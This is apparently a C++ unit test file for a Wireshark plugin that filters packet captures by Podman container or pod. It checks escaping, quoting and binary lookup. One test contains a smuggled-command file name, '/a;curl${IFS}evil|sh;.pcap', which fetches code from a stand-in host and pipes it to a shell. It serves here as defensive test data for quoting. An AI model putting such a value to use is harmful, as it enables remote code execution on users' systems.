// SPDX-License-Identifier: GPL-2.0-or-later
#include "plugin/commands.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <csignal>
#include <filesystem>

#include "tests/unit/temp_tree.h"

namespace podshark::plugin {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

TEST(Filters, names_are_quoted_whatever_they_hold) {
  EXPECT_EQ(equals("podman.name", "web"), R"(podman.name == "web")");
  EXPECT_EQ(equals("podman.name", R"(a" || ip || "\)"), R"(podman.name == "a\" || ip || \"\\")");
  EXPECT_EQ(equals("podman.name", "a\nb\x7f"), R"(podman.name == "a\x0ab\x7f")");
  EXPECT_EQ(equals("podman.name", "käse"), "podman.name == \"käse\"");
}

TEST(Filters, the_sender_counts_and_else_the_receiver) {
  EXPECT_EQ(container_action({"web", nullptr}, {"db", nullptr})->filter, R"(podman.name == "web")");
  EXPECT_EQ(container_action({}, {"db", nullptr})->filter, R"(podman.name == "db")");
  EXPECT_EQ(container_action({"", nullptr}, {"db", nullptr})->label, "Filter on db");
  EXPECT_FALSE(container_action({}, {}));
}

TEST(Filters, a_pod_is_that_of_the_first_end_that_has_one) {
  EXPECT_EQ(pod_action({"web", "shop"}, {"db", "data"})->filter,
            R"(podman.src.pod == "shop" || podman.dst.pod == "shop")");
  EXPECT_EQ(pod_action({"web", nullptr}, {"db", "data"})->filter,
            R"(podman.src.pod == "data" || podman.dst.pod == "data")");
  EXPECT_FALSE(pod_action({"web", nullptr}, {"db", nullptr}));
}

TEST(Filters, a_label_stays_short_and_clean) {
  const std::string hostile = "a\n" + std::string(300, 'x');
  const auto action = container_action({hostile.c_str(), nullptr}, {});
  EXPECT_LT(action->label.size(), 60U);
  EXPECT_EQ(action->label.find('\n'), std::string::npos);
}

class Finding : public ::testing::Test {
 protected:
  test::TempTree tree;
  std::string installed = tree.write("usr/bin/podshark", "", true);
  std::string in_path = tree.write("path/podshark", "", true);
  std::string in_extcap = tree.write("extcap/podshark", "", true);
  Places places{"", installed, tree.path() + "/nowhere::" + tree.path() + "/path", tree.path() + "/extcap"};

  static void remove(const std::string& file) { std::filesystem::remove(file); }
};

TEST_F(Finding, the_places_count_in_their_order) {
  EXPECT_EQ(*find_podshark(places), installed);
  remove(installed);
  EXPECT_EQ(*find_podshark(places), in_path);
  remove(in_path);
  EXPECT_EQ(*find_podshark(places), in_extcap);
  remove(in_extcap);
  const auto none = find_podshark(places);
  ASSERT_FALSE(none);
  EXPECT_THAT(none.error().line(), HasSubstr("podshark is not found"));
  EXPECT_THAT(none.error().line(), HasSubstr("install/setup.sh"));
}

TEST_F(Finding, what_can_not_be_executed_does_not_count) {
  std::filesystem::permissions(installed, std::filesystem::perms::owner_read);
  std::filesystem::remove(in_path);
  std::filesystem::create_directory(in_path);
  if (::geteuid() != 0) {
    EXPECT_EQ(*find_podshark(places), in_extcap);
  }
  remove(installed);
  EXPECT_EQ(*find_podshark(places), in_extcap);
}

TEST_F(Finding, the_preference_alone_counts_when_it_is_set) {
  const std::string own = tree.write("own/shark", "", true);
  places.preference = own;
  EXPECT_EQ(*find_podshark(places), own);
  places.preference = tree.path() + "/gone";
  const auto gone = find_podshark(places);
  ASSERT_FALSE(gone);
  EXPECT_THAT(gone.error().line(), HasSubstr("podman.program"));
  EXPECT_THAT(gone.error().line(), HasSubstr("No such file"));
  EXPECT_THAT(gone.error().line(), HasSubstr("Preferences"));
  places.preference = tree.path();
  EXPECT_THAT(find_podshark(places).error().line(), HasSubstr("Is a directory"));
}

TEST_F(Finding, a_preference_without_a_directory_is_looked_up_in_the_path) {
  places.preference = "podshark";
  EXPECT_EQ(*find_podshark(places), in_path);
  places.preference = "nobody";
  EXPECT_FALSE(find_podshark(places));
}

TEST(Commands, are_words_and_never_a_shells) {
  EXPECT_THAT(list_command("/bin/podshark"), ElementsAre("/bin/podshark", "list"));
  EXPECT_THAT(doctor_command("/bin/podshark"), ElementsAre("/bin/podshark", "doctor"));
  EXPECT_THAT(annotate_command("p", "/a/$(x).pcap", "/b/ c.pcapng"),
              ElementsAre("p", "annotate", "/a/$(x).pcap", "-o", "/b/ c.pcapng", "--live"));
  EXPECT_EQ(annotate_command("p", "-o", "x")[2].front(), '/');
}

TEST(Commands, are_shown_on_one_line) {
  EXPECT_EQ(shown({"/bin/podshark", "annotate", "/a b/c", "-o", "x\ny", ""}),
            "$ /bin/podshark annotate '/a b/c' -o 'x y' ''");
}

TEST(Commands, are_quoted_for_who_copies_them) {
  EXPECT_EQ(shown({"p", "/a;curl${IFS}evil|sh;.pcap", "it's", "ssh://a@b:22/c_d"}),
            "$ p '/a;curl${IFS}evil|sh;.pcap' 'it'\\''s' ssh://a@b:22/c_d");
}

TEST(Commands, endings_are_told) {
  EXPECT_EQ(ending(0, false), "[done]");
  EXPECT_EQ(ending(6 << 8, false), "[failed: exit code 6]");
  EXPECT_EQ(ending(12 << 8, false), "[done: it could not be reached]");
  EXPECT_EQ(ending(13 << 8, false), "[done: something is wrong]");
  EXPECT_EQ(ending(SIGKILL, false), "[ended by signal 9, Killed]");
  EXPECT_EQ(ending(SIGTERM, true), "[stopped]");
}

TEST(Copies, get_a_name_beside_the_original) {
  EXPECT_EQ(suggested_copy("/x/web.pcapng", ""), "/x/web-podman.pcapng");
  EXPECT_EQ(suggested_copy("/x/web.2.pcap.gz", ""), "/x/web.2-podman.pcapng");
  EXPECT_EQ(suggested_copy("/tmp/wireshark_XY.pcapng", "/home/me"), "/home/me/wireshark_XY-podman.pcapng");
  EXPECT_EQ(suggested_copy("/x/.hidden", ""), "/x/.hidden-podman.pcapng");
}

TEST(Copies, go_where_it_was_typed_and_overwrite_nothing) {
  test::TempTree tree;
  const std::string original = tree.write("web.pcapng", "");
  EXPECT_EQ(*copy_path(" other.pcapng ", original, "/home/me"), tree.path() + "/other.pcapng");
  EXPECT_EQ(*copy_path("~/other.pcapng", original, "/home/me"), "/home/me/other.pcapng");
  EXPECT_EQ(*copy_path("/nowhere/x", original, "/home/me"), "/nowhere/x");
  EXPECT_THAT(copy_path("web.pcapng", original, "").error().line(), HasSubstr("exists already"));
  EXPECT_THAT(copy_path("  ", original, "").error().line(), HasSubstr("no name"));
}

TEST(CleanLines, come_whole_and_clean_however_the_bytes_arrive) {
  const std::string output = "web  10.89.0.2\nk\xc3\xa4se\x1b[31m\r\n\xff bad\nrest";
  for (std::size_t step = 1; step <= output.size(); ++step) {
    CleanLines lines;
    std::string text;
    for (std::size_t at = 0; at < output.size(); at += step) text += lines.add(output.substr(at, step));
    EXPECT_EQ(text, "web  10.89.0.2\nk\xc3\xa4se [31m \n\xef\xbf\xbd bad\n") << step;
    EXPECT_EQ(lines.rest(), "rest\n");
    EXPECT_EQ(lines.rest(), "");
  }
}

TEST(CleanLines, a_line_without_an_end_does_not_grow_forever) {
  CleanLines lines;
  EXPECT_GT(lines.add(std::string(100'000, 'x')).size(), 90'000U);
  EXPECT_LT(lines.rest().size(), 5000U);
}

}  // namespace
}  // namespace podshark::plugin
